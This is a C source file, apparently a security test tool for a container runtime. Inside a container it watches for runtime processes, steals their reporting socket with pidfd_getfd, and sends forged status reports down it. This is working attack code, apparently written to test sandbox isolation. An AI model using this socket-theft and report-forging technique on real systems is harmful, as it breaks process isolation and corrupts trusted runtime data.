// SPDX-License-Identifier: Apache-2.0
//
// Inside a container, with CAP_SYS_PTRACE: waits for processes of the runtime that appear, takes the socket that
// they report to, and sends reports of its own. hijack SECONDS REPORT...
//   REPORT  step,error,value[,TEXT]  as of runtime/stub/program.h; TEXT stands where words may stand
// Prints "ready", then for each socket that it took "took PID CAPABILITIES SECCOMP" (as /proc/PID/status has them).
// Whatever descriptor it gets it holds until it ends: the runtime never sees the end of one.
#define _GNU_SOURCE
#include <fcntl.h>
#include <signal.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <time.h>
#include <unistd.h>

struct report {
  int32_t step;
  int32_t error;
  int64_t value;
  char call[24];
  char note[104];
};

static struct report forged[16];
static int forged_count;

static void parse(const char* text) {
  struct report* made = &forged[forged_count++];
  char* at;
  made->step = (int32_t)strtol(text, &at, 0);
  made->error = (int32_t)strtol(at + 1, &at, 0);
  made->value = strtoll(at + 1, &at, 0);
  if (*at == ',') memset(made->call, at[1], sizeof made->call + sizeof made->note);
}

// The word after `name` in /proc/PID/status.
static void field(pid_t pid, const char* name, char* into, size_t size) {
  char path[64], text[4096];
  snprintf(path, sizeof path, "/proc/%d/status", pid);
  const int fd = open(path, O_RDONLY);
  const ssize_t length = fd < 0 ? -1 : read(fd, text, sizeof text - 1);
  if (fd >= 0) close(fd);
  text[length < 0 ? 0 : length] = '\0';
  const char* found = strstr(text, name);
  snprintf(into, size, "?");
  if (found != NULL) sscanf(found + strlen(name), "%63s", into);
}

static int is_socket(int fd) {
  struct stat status;
  return fstat(fd, &status) == 0 && S_ISSOCK(status.st_mode);
}

static int take_socket(int process) {
  int channel = -1;
  for (int number = 3; number < 12; ++number) {
    const int fd = (int)syscall(SYS_pidfd_getfd, process, number, 0);
    if (fd < 0) continue;
    if (is_socket(fd)) channel = fd;
  }
  return channel;
}

static void attack(pid_t pid) {
  const int process = (int)syscall(SYS_pidfd_open, pid, 0);
  if (process < 0) return;
  const int channel = take_socket(process);
  close(process);
  if (channel < 0) return;
  for (int i = 0; i < forged_count; ++i) send(channel, &forged[i], sizeof forged[i], MSG_NOSIGNAL | MSG_DONTWAIT);
  char capabilities[64], filter[64];
  field(pid, "CapPrm:", capabilities, sizeof capabilities);
  field(pid, "\nSeccomp:", filter, sizeof filter);
  printf("took %d %s %s\n", pid, capabilities, filter);
  fflush(stdout);
}

int main(int argc, char** argv) {
  const time_t end = time(NULL) + atoi(argv[1]);
  for (int i = 2; i < argc && forged_count < 16; ++i) parse(argv[i]);
  puts("ready");
  fflush(stdout);
  // Numbers of a new pid namespace are given in order.
  for (pid_t next = getpid() + 1; time(NULL) < end;) {
    for (pid_t pid = next; pid < next + 32; ++pid) {
      if (kill(pid, 0) != 0) continue;
      attack(pid);
      next = pid + 1;
    }
  }
  return 0;
}
